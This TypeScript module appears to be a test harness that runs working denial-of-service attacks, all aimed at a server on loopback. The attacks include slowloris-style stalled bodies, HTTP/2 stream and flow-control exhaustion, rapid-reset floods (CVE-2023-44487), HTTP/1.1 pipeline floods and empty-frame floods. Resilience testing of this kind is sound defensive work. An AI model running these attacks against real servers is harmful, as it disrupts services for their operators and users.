/**
 * What strangers do to a server that they want to keep others from. Each attack resolves
 * when it is at its full size, and goes on until its process is ended. None of them needs a secret, and none much bandwidth.
 */
import { once } from "node:events";
import http2 from "node:http2";
import net from "node:net";
import * as frames from "./http2Frames.ts";
import { rawRequest } from "./rawHttp1.ts";

/** Where an attack goes, and the address that it comes from. */
export interface Target {
  readonly port: number;
  /** Of the loopback network, 127.0.0.0/8. */
  readonly from: string;
}

const REST_PATH = "/api/v1/signals/ingest";
const BATCH_PATH = "/signals.v1.IngestService/IngestBatch";
const BATCH_MAX_BYTES = 4 * 1024 * 1024;
const WATCH_PATH = "/grpc.health.v1.Health/Watch";
const GRPC = ["content-type", "application/grpc"] as const;
/** SETTINGS_INITIAL_WINDOW_SIZE of 0: no answer may have a body (RFC 9113, section 6.5.2). */
const NO_WINDOW = Buffer.from("000400000000", "hex");

/** More connections than the server takes, those that it is about to close included. */
const MORE_THAN_ALL = 5_600;

/** All attacks by their names. */
export const ATTACKS = {
  /** Connections that say nothing. */
  silence: (target) => keep(MORE_THAN_ALL, target, () => undefined),
  /** HTTP/2 connections on which nothing is asked. */
  prefaces: (target) =>
    keep(MORE_THAN_ALL, target, (socket) => void socket.write(frames.opening())),
  /** HTTP/1.1 connections on which one request was answered, and no other comes. */
  idle: (target) =>
    keep(MORE_THAN_ALL, target, (socket) => void socket.write(get("/api/v1/health"))),
  /** Single signals that stop one byte short of their end. */
  stoppedBodies: (target) => keep(1_100, target, (socket) => postBody(socket, 64 * 1024)),
  /** The same with batches, over HTTP/2, many on a connection. */
  stoppedBatches: (target) => keep(8, target, (socket) => postBatches(socket, 100, 64 * 1024 - 1)),
  /** Bodies that come, but never end within anybody's patience. */
  slowBodies: (target) =>
    keep(1_100, target, (socket) => {
      postBody(socket, 32 * 1024, 64 * 1024);
      every(1_000, socket, () => void socket.write(Buffer.alloc(256, 0x20)));
    }),
  /** Requests that open and never send a body, as many as a connection may. */
  openStreams: (target) => keep(200, target, (socket) => postBatches(socket, 100, 0)),
  /** Answers that nobody reads. */
  unreadAnswers: (target) =>
    keep(200, target, (socket) => {
      const ask = (index: number) =>
        frames.headers(2 * index + 1, [...frames.post("/x")], frames.END_STREAM);
      socket.write(opening(NO_WINDOW, 100, ask));
    }),
  /** Batches of the greatest size that are refused, for want of a proof, and nobody reads it. */
  unreadRefusals: async (target) => {
    await Promise.all(Array.from({ length: 4 }, () => postUnsigned(target, 25)));
  },
  /** Watches of the health service, four on a connection. */
  watches: (target) =>
    keep(100, target, (socket) => {
      const watch = (index: number) =>
        Buffer.concat([
          frames.headers(2 * index + 1, [...frames.post(WATCH_PATH), GRPC]),
          frames.data(2 * index + 1, Buffer.alloc(5), frames.END_STREAM),
        ]);
      socket.write(opening(undefined, 4, watch));
    }),
  /** Streams that are opened and reset, a thousand on a connection (CVE-2023-44487). */
  resets: (target) => keep(3, target, (socket) => writeOnce(socket, resetStreams(frames.CANCEL))),
  /** The same with a body that has begun, and a code that calls it no error. */
  resetBodies: (target) =>
    keep(3, target, (socket) => {
      const open = (index: number) =>
        Buffer.concat([
          frames.headers(2 * index + 1, [...frames.post(BATCH_PATH), GRPC]),
          frames.data(2 * index + 1, Buffer.alloc(5)),
          frames.reset(2 * index + 1, frames.NO_ERROR),
        ]);
      writeOnce(socket, opening(undefined, 1_000, open));
    }),
  /** Streams that the server has to reset, for a window that grows by 0. */
  madeResets: (target) =>
    keep(3, target, (socket) => {
      const open = (index: number) =>
        Buffer.concat([
          frames.headers(2 * index + 1, [...frames.post(BATCH_PATH), GRPC]),
          frames.frame(WINDOW_UPDATE, 0, 2 * index + 1, Buffer.alloc(4)),
        ]);
      writeOnce(socket, opening(undefined, 1_000, open));
    }),
  /** Thousands of requests in one piece. */
  pipelines: (target) =>
    keep(2, target, (socket) => {
      writeOnce(socket, Buffer.concat(Array.from({ length: 2_000 }, () => get("/x"))));
    }),
  /** Requests as short as there are, as many as are taken, and no answer is read. */
  unreadPipelines: (target) =>
    keep(200, target, (socket) => {
      socket.pause();
      const many = Buffer.from("GET / HTTP/1.1\r\n\r\n".repeat(3_400));
      const more = () => {
        while (socket.writable && socket.write(many));
      };
      socket.on("drain", more);
      more();
    }),
  /** Unknown paths, as fast as they are answered, a hundred at a time on each connection. */
  unknownPaths: (target) =>
    keep(4, target, (socket) => {
      let asked = 0;
      function ask(): Buffer {
        asked += 1;
        return frames.headers(2 * asked - 1, frames.post("/x"), frames.END_STREAM);
      }
      socket.write(Buffer.concat([frames.opening(), ...Array.from({ length: 100 }, ask)]));
      socket.on("data", (answers) => {
        // An answer has about 300 bytes.
        const next = Array.from({ length: Math.ceil(answers.length / 300) }, ask);
        socket.write(Buffer.concat([windowOf(answers.length), ...next]));
      });
    }),
  /** Frames that carry nothing and that the server has to answer or to look at. */
  emptyFrames: async (target) => {
    await Promise.all(EMPTY_FRAMES.map((bytes) => flood(target, bytes)));
  },
} as const satisfies Record<string, (target: Target) => Promise<void>>;

/** The name of an attack. */
export type AttackName = keyof typeof ATTACKS;

const PRIORITY = 2;
const WINDOW_UPDATE = 8;
const CONTINUATION = 9;
const EMPTY_FRAMES = [
  frames.frame(frames.FRAME.ping, 0, 0, Buffer.alloc(8)),
  frames.frame(frames.FRAME.settings, 0, 0),
  frames.frame(PRIORITY, 0, 1, Buffer.alloc(5, 1)),
  frames.data(1, Buffer.alloc(0)),
  frames.frame(CONTINUATION, 0, 1),
];
/** Connections are opened so many at a time, since more would not be accepted at once. */
const OPENING_MAX = 200;
const PAUSE_MS = 10;

/**
 * Keeps so many connections open: one that is closed is replaced.
 *
 * @returns when so many have been opened.
 */
function keep(
  count: number,
  { port, from }: Target,
  begin: (socket: net.Socket) => void,
): Promise<void> {
  const all = Promise.withResolvers<void>();
  let open = 0;
  let opening = 0;
  let opened = 0;
  function fill(): void {
    while (open < count && opening < OPENING_MAX) connect();
  }
  function connect(): void {
    open += 1;
    opening += 1;
    let isOpening = true;
    const endOpening = () => {
      if (isOpening) opening -= 1;
      isOpening = false;
    };
    const socket = net.connect({ port, host: "127.0.0.1", localAddress: from });
    socket.on("error", () => undefined);
    socket.once("connect", () => {
      endOpening();
      begin(socket);
      opened += 1;
      if (opened === count) all.resolve();
      fill();
    });
    socket.once("close", () => {
      endOpening();
      open -= 1;
      setTimeout(fill, PAUSE_MS);
    });
    socket.resume();
  }
  fill();
  return all.promise;
}

/** Writes all and hangs up, so that the next connection can do the same. */
function writeOnce(socket: net.Socket, bytes: Buffer): void {
  socket.write(bytes, () => setTimeout(() => socket.destroy(), PAUSE_MS));
}

/** Two connections that send one frame as fast as it is taken. */
function flood(target: Target, bytes: Buffer): Promise<void> {
  const many = Buffer.concat(Array.from({ length: 1_000 }, () => bytes));
  return keep(2, target, (socket) => {
    const first = frames.headers(1, [...frames.post(BATCH_PATH), GRPC]);
    socket.write(Buffer.concat([frames.opening(), first]));
    const more = () => {
      while (socket.writable && socket.write(many));
    };
    socket.on("drain", more);
    more();
  });
}

function opening(
  settings: Uint8Array | undefined,
  count: number,
  stream: (index: number) => Buffer,
): Buffer {
  const streams = Array.from({ length: count }, (_, index) => stream(index));
  const begin = frames.frame(frames.FRAME.settings, 0, 0, settings);
  return Buffer.concat([frames.PREFACE, begin, ...streams]);
}

/** Lets the server send so many bytes more on a connection. */
function windowOf(bytes: number): Buffer {
  const payload = Buffer.alloc(4);
  payload.writeUInt32BE(bytes);
  return frames.frame(WINDOW_UPDATE, 0, 0, payload);
}

function resetStreams(code: number): Buffer {
  return opening(undefined, 1_000, (index) =>
    Buffer.concat([
      frames.headers(2 * index + 1, frames.post("/x"), frames.END_STREAM),
      frames.reset(2 * index + 1, code),
    ]),
  );
}

/** Posts batches one after the other, on one connection, and lets no answer have a body. */
async function postUnsigned({ port, from }: Target, count: number): Promise<void> {
  const session = http2.connect(`http://127.0.0.1:${port}`, {
    createConnection: () => net.connect({ port, host: "127.0.0.1", localAddress: from }),
    settings: { initialWindowSize: 0 },
  });
  session.on("error", () => undefined);
  const batch = Buffer.alloc(BATCH_MAX_BYTES, "{");
  for (let posted = 0; posted < count; posted++) {
    // The server ends a connection on which too much proves nothing.
    if (session.closed || session.destroyed) return;
    const stream = session.request({
      ":method": "POST",
      ":path": BATCH_PATH,
      "content-type": "application/json",
    });
    stream.end(batch);
    await once(stream, "response");
  }
}

function get(path: string): Buffer {
  return rawRequest(`GET ${path} HTTP/1.1`, [["host", "localhost"]]);
}

function postBody(socket: net.Socket, length: number, announced = length): void {
  const head = rawRequest(`POST ${REST_PATH} HTTP/1.1`, [
    ["host", "localhost"],
    ["content-type", "application/json"],
    ["content-length", `${announced}`],
  ]);
  socket.write(Buffer.concat([head, Buffer.alloc(length - 1, 0x20)]));
}

/** Batches that are never ended; `length` bytes of each, as far as the window allows. */
function postBatches(socket: net.Socket, count: number, length: number): void {
  const open = (index: number) => frames.headers(2 * index + 1, [...frames.post(BATCH_PATH), GRPC]);
  socket.write(opening(undefined, count, open));
  for (let index = 0; index < count && length > 0; index++) {
    for (let sent = 0; sent < length; sent += 16_384) {
      const size = Math.min(16_384, length - sent);
      socket.write(frames.data(2 * index + 1, Buffer.alloc(size)));
    }
  }
}

function every(intervalMs: number, socket: net.Socket, action: () => void): void {
  const timer = setInterval(action, intervalMs);
  socket.once("close", () => clearInterval(timer));
}
